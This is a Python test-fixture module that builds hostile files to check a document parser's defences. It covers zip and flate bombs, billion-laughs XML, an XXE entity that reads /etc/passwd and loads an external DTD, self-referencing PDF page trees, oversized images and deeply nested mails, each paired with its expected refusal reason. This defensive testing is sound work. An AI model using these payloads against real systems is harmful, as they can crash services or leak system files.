"""Hostile files, each made in a moment: bombs, loops, lies about size and kind, tables and papers without end."""

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from tests.packed import zipped
from tests.proof.fuzz.originals import originals

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(n + 1)} "{f"&{chr(n)};" * 10}">' for n in range(ord("b"), ord("j")))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>'


@cache
def good() -> bytes:
    """A valid report."""
    return originals("docx")[0]


def parts(data: bytes) -> dict[str, bytes]:
    """The parts of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def word(change: Callable[[bytes], bytes], part: str = "word/document.xml") -> bytes:
    """The report with one part changed."""
    held = parts(good())
    return zipped({**held, part: change(held[part])})


def in_body(text: str | bytes) -> bytes:
    """The report with something at the beginning of its body."""
    inner = text if isinstance(text, bytes) else text.encode()
    return word(lambda content: content.replace(b"<w:body>", b"<w:body>" + inner, 1))


def before_root(text: str, part: str = "word/document.xml", root: bytes = b"<w:document") -> bytes:
    """The report with something before a part's root."""
    return word(lambda content: content.replace(root, text.encode() + root, 1), part)


def rows(count: int) -> bytes:
    """The report with a table of so many rows."""
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    row = f"<w:tr>{cell.format('1')}{cell.format('Nội dung')}{cell.format('5')}</w:tr>"
    return in_body(f"<w:tbl>{row * count}</w:tbl>")


def nested_tables(depth: int) -> bytes:
    """The report with tables in tables."""
    return in_body("<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth)


def deep(depth: int) -> bytes:
    """The report with an element in itself."""
    return in_body("<w:p>" + "<w:ins>" * depth + "</w:ins>" * depth + "</w:p>")


def lying_zip() -> bytes:
    """A report whose directory says that its text is short; more comes out."""
    data = bytearray(word(lambda content: content.replace(b"<w:body>", b"<w:body>" + b" " * 60_000_000, 1)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo("word/document.xml")
    size = entry.file_size.to_bytes(4, "little")
    for spot in (i for i in range(len(data)) if data[i : i + 4] == size):
        data[spot : spot + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


def overlapping(count: int) -> bytes:
    """A zip whose directory names the same bytes over and over."""
    inner = zipped({"0.docx": b"0" * 1_000_000})
    directory, end = inner[inner.index(b"PK\x01\x02") : inner.index(b"PK\x05\x06")], inner[inner.index(b"PK\x05\x06") :]
    listed = b"".join(directory.replace(b"0.docx", f"{n:06}"[-6:].encode()) for n in range(count))
    many = min(count, 65_535).to_bytes(2, "little")
    tail = end[:8] + many + many + len(listed).to_bytes(4, "little") + end[16:]
    return inner[: inner.index(b"PK\x01\x02")] + listed + tail


def nested_zips(depth: int) -> bytes:
    """Zips in zips."""
    data = good()
    for level in range(depth):
        data = zipped({f"{level}.{'zip' if level else 'docx'}": data})
    return data


def pdf(*objects: bytes, pages: bytes = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>") -> bytes:
    """A PDF of these objects, the first of them number 3."""
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate((b"<< /Type /Catalog /Pages 2 0 R >>", pages, *objects), 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    tail = b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + tail


PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %b >> >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SAYS = b"BT /F1 12 Tf 72 700 Td (Bao cao tong ket nam 2022 cua don vi) Tj ET\n"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A packed stream."""
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(packed), extra, packed)


def flate_bomb() -> bytes:
    """A page whose 300 MB of drawing are packed twice into some kilobytes."""
    once = zlib.compress(SAYS * 5_000_000, 9)
    twice = zlib.compress(once, 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(twice)
    return pdf(PAGE % b"", head + twice + b"\nendstream", FONT)


def page_loop() -> bytes:
    """A tree of pages that holds itself."""
    return pdf(
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9999 >>",
        pages=b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9999 >>",
    )


def forms_in_forms() -> bytes:
    """A page with a form that draws itself."""
    form = stream(
        b"/X Do /X Do /X Do " + SAYS,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>",
    )
    return pdf(PAGE % b"/XObject << /X 6 0 R >>", stream(b"/X Do " + SAYS), FONT, form)


def many_pages(count: int) -> bytes:
    """A report that goes on and on: its first page so many times."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(originals("pdf")[0])) as opened:
        first = opened.pages[0]
        for _ in range(count - len(opened.pages)):
            opened.pages.append(first)
        opened.save(out)
    return out.getvalue()


def huge_page() -> bytes:
    """A page as large as a town, without a letter."""
    return pdf(PAGE.replace(b"595 842", b"9999999 9999999") % b"", stream(b"0 0 9999999 9999999 re f"), FONT)


def huge_picture() -> bytes:
    """A picture of 40,000 by 40,000 points that is a few kilobytes long."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return len(content).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    side = (40_000).to_bytes(4, "big")
    rows_ = zlib.compress(b"\x00" * 5_001 * 4_000, 9)
    head = chunk(b"IHDR", side + side + b"\x01\x00\x00\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows_) + chunk(b"IEND", b"")


def workbook(sheet: str, root: str = "") -> bytes:
    """A valid workbook with this for the inside of its first sheet."""
    content = f'<?xml version="1.0"?>{root}<worksheet xmlns="{SHEET}">{sheet}</worksheet>'
    return zipped({**parts(originals("xlsx")[0]), "xl/worksheets/sheet1.xml": content.encode()})


def sheet_rows(count: int) -> bytes:
    """A workbook with so many rows."""
    text = '<c r="B{0}" t="inlineStr"><is><t>Nội dung</t></is></c>'
    row = f'<row r="{{0}}"><c r="A{{0}}"><v>1</v></c>{text}<c r="C{{0}}"><v>5</v></c></row>'
    return workbook("<sheetData>" + "".join(row.format(n) for n in range(1, count + 1)) + "</sheetData>")


def merged() -> bytes:
    """A workbook of one cell that is merged with all others."""
    cells = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    return workbook(f'{cells}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def mail(count: int, nested: bool = False) -> bytes:
    """A mail of so many parts, side by side or one in the other."""
    head = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: bao cao\r\nMIME-Version: 1.0\r\n"
    if nested:
        inner = b"Content-Type: text/plain\r\n\r\nx\r\n"
        for n in range(count):
            edge = b"e%d" % n
            inner = b"Content-Type: multipart/mixed; boundary=%b\r\n\r\n--%b\r\n%b\r\n--%b--\r\n" % (
                edge,
                edge,
                inner,
                edge,
            )
        return head + inner
    part = b'--x\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="%d.txt"\r\n\r\nx\r\n'
    return (
        head
        + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
        + b"".join(part % n for n in range(count))
        + b"--x--\r\n"
    )


def attachment(data: bytes, name: str) -> bytes:
    """A mail with one file under that name."""
    return (
        b"From: a@b.example\r\nSubject: bao cao\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
        b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="%b"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n%b\r\n--x--\r\n" % (name.encode(), base64.encodebytes(data))
    )


def encrypted_pdf() -> bytes:
    """A PDF under a password."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(originals("pdf")[0])) as opened:
        opened.save(out, encryption=pikepdf.Encryption(user="a", owner="b"))
    return out.getvalue()


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file of version 3 with these streams, each longer than those that are kept in a stream of all."""
    free, end, fat = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    held = [content + bytes(-len(content) % 512) for content in streams.values()]
    first, chain, starts = 2, [fat, end], []
    for content in held:
        starts.append(first)
        first += len(content) // 512
        chain += [*range(starts[-1] + 1, first), end]
    entries = [_entry("Root Entry", 5, 1, end, 0)]
    for at, (name, content) in enumerate(streams.items(), 1):
        entries.append(_entry(name, 2, at + 1 if at < len(streams) else free, starts[at - 1], len(content)))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109I", 0, *[free] * 108)
    table = struct.pack("<128I", *chain, *[free] * (128 - len(chain)))
    return head + table + b"".join(entries).ljust(512, b"\0") + b"".join(held)


def _entry(name: str, kind: int, neighbour: int, start: int, size: int) -> bytes:
    """An entry of a compound file's directory: the root has its first stream as child, a stream the next beside it."""
    free = 0xFFFFFFFF
    child, right = (neighbour, free) if kind == 5 else (free, neighbour)
    letters = name.encode("utf-16-le") + b"\0\0"
    head = letters.ljust(64, b"\0") + struct.pack("<HBB3I", len(letters), kind, 1, free, right, child)
    return head + bytes(36) + struct.pack("<IQ", start, size)


def locked_entry() -> bytes:
    """A zip whose file is marked as being under a password."""
    data = bytearray(zipped({"bc.docx": b"0" * 500}))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + flags] |= 1
    return bytes(data)


def locked_office() -> bytes:
    """What Office writes of a paper under a password: the package, not to be read, and how it was locked."""
    noise = random.Random("locked").randbytes(8192)
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'.ljust(5000)
    return compound({"EncryptedPackage": struct.pack("<Q", 8000) + noise, "EncryptionInfo": info})


READ, LARGE, BROKEN, LOCKED, KIND = "", "file.too_large", "file.unreadable", "file.encrypted", "file.unsupported"

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.docx": (lambda: in_body("<w:p><w:r><w:t>" + "A" * 600_000_000 + "</w:t></w:r></w:p>"), LARGE),
    "one-text.docx": (lambda: in_body("<w:p><w:r><w:t>" + "A" * 15_000_000 + "</w:t></w:r></w:p>"), LARGE),
    "many-paragraphs.docx": (lambda: in_body("<w:p><w:r><w:t>van ban</w:t></w:r></w:p>" * 3_000_000), LARGE),
    "lying.docx": (lying_zip, BROKEN),
    "rows.docx": (lambda: rows(100_000), READ),
    "nested-tables.docx": (lambda: nested_tables(3_000), LARGE),
    "deep.docx": (lambda: deep(100_000), LARGE),
    "laughs.docx": (lambda: before_root(LAUGHS), BROKEN),
    "outside.docx": (lambda: before_root(OUTSIDE), BROKEN),
    "outside-styles.docx": (lambda: before_root(OUTSIDE, "word/styles.xml", b"<w:styles"), BROKEN),
    "outside-types.docx": (lambda: before_root(OUTSIDE, "word/_rels/document.xml.rels", b"<Relationships"), BROKEN),
    "no-text.docx": (lambda: word(lambda _: b""), BROKEN),
    "twin-text.docx": (lambda: zipped({**parts(good()), "Word/Document.xml": b"<other/>"}), BROKEN),
    "half.docx": (lambda: good()[: len(good()) // 2], BROKEN),
    "half-text.docx": (lambda: word(lambda content: content[: len(content) // 2]), BROKEN),
    "is-a-pdf.docx": (lambda: many_pages(1), READ),
    "both.pdf": (lambda: many_pages(1) + good(), READ),
    "both.docx": (lambda: b"%PDF-1.7\n" + good(), BROKEN),
    "overlapping.zip": (lambda: overlapping(9_000), LARGE),
    "entries.zip": (lambda: zipped({f"{n}.txt": b"" for n in range(12_000)}), LARGE),
    "zeros.zip": (lambda: zipped({f"{n}.txt": b"0" * 50_000_000 for n in range(12)}), LARGE),
    "nested.zip": (lambda: nested_zips(9), KIND),
    "flate.pdf": (flate_bomb, LARGE),
    "loop.pdf": (page_loop, LARGE),
    "forms.pdf": (forms_in_forms, LARGE),
    "pages.pdf": (lambda: many_pages(2_000), READ),
    "too-many-pages.pdf": (lambda: many_pages(4_000), LARGE),
    "huge-page.pdf": (huge_page, LARGE),
    "half.pdf": (lambda: many_pages(1)[:200], BROKEN),
    "locked.pdf": (encrypted_pdf, LOCKED),
    "locked.docx": (locked_office, LOCKED),
    "locked.xlsx": (locked_office, LOCKED),
    "locked-entry.zip": (locked_entry, LOCKED),
    "empty.pdf": (lambda: b"", BROKEN),
    "huge.png": (huge_picture, LARGE),
    "rows.xlsx": (lambda: sheet_rows(100_000), READ),
    "far.xlsx": (
        lambda: workbook('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        LARGE,
    ),
    "odd.xlsx": (lambda: workbook('<sheetData><row r="1"><c r="rId99"><v>1</v></c></row></sheetData>'), BROKEN),
    "far-row.xlsx": (
        lambda: workbook('<sheetData><row r="999999999"><c><v>1</v></c></row></sheetData>'),
        BROKEN,
    ),
    "merged.xlsx": (merged, READ),
    "laughs.xlsx": (lambda: workbook("<sheetData/>", LAUGHS), BROKEN),
    "parts.eml": (lambda: mail(10_000), LARGE),
    "nested.eml": (lambda: mail(400, nested=True), KIND),
    "noise.bin": (lambda: bytes(range(256)) * 40, KIND),
    "noise.docx": (lambda: b"PK\x03\x04" + bytes(range(256)) * 20, BROKEN),
}
"""Name -> the file, and how it ends: read, or refused for this reason."""
